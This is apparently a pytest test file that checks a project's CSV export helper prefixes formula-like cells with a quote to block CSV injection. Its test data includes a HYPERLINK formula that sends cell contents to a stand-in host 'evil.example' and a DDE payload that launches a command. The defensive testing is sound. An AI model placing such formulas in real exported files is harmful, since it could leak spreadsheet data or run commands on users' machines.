"""Every CSV export neutralises cells a spreadsheet would run as formulas (OWASP CSV injection)."""

import csv
import io

import pytest

from qualify.exports import csv_response, safe_cell


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
                                   "=cmd|' /C calc'!A0"])
def test_formulas_are_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ada", "", "-3.5", "+44", "12", -3, 2.5, None, "a=b"])
def test_text_numbers_and_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_csv_response_passes_every_cell_and_the_header_through_the_helper():
    r = csv_response("x.csv", ["name", "=evil"], [['=HYPERLINK("http://evil.example","x")', -1]])
    assert r["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert list(csv.reader(io.StringIO(r.content.decode()))) == [
        ["name", "'=evil"], ['\'=HYPERLINK("http://evil.example","x")', "-1"]]
